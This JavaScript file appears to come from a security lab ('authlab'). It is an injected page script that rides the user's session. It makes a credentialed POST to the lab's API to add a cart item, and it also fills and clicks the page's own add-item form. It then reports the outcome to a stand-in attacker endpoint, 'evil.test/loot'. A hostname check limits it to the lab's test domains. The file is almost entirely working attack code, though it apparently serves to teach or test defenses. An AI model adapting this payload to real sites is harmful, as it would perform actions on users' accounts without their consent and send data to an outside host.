// Injected into the lab's page: reads no credential, acts as the user. It works against the lab's own sites only.

(async () => {
  if (location.hostname !== 'app.test' && !location.hostname.endsWith('.app.test')) return

  const LOOT = `${location.protocol}//evil.test/loot`
  const API = `${location.protocol}//api.app.test`
  const WAIT_MS = 5_000

  /** With the cookies that the browser attaches: works where the credential is a cookie. */
  async function byRequest() {
    try {
      const answer = await fetch(`${API}/cart/items`, {
        method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: '{"item": "ridden-by-request"}',
      })
      return answer.ok
    } catch {
      return false
    }
  }

  /** With the page's own form: works wherever the page knows how to send the credential. */
  async function byButton() {
    const item = document.querySelector('[data-testid=item]')
    const button = document.querySelector('[data-testid=add-item]')
    if (item === null || button === null) return false
    item.value = 'ridden-by-button'
    item.dispatchEvent(new Event('input', { bubbles: true }))
    button.click()
    const until = performance.now() + WAIT_MS
    while (performance.now() < until) {
      if (document.querySelector('[data-testid=cart]')?.textContent.includes('ridden-by-button')) return true
      await new Promise((resolve) => setTimeout(resolve, 50))
    }
    return false
  }

  const done = { request: await byRequest(), button: await byButton() }
  fetch(LOOT, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ thief: 'rider', done }) }).catch(() => {})
  const ways = [done.request && 'its own request with credentials', done.button && 'the page’s button'].filter(Boolean)
  const says = ways.length > 0 ? `It filled the cart by ${ways.join(' and by ')}.` : 'It could not fill the cart.'
  document.dispatchEvent(new CustomEvent('authlab-told', { detail: { thief: 'rider', worked: ways.length > 0, says } }))
})()
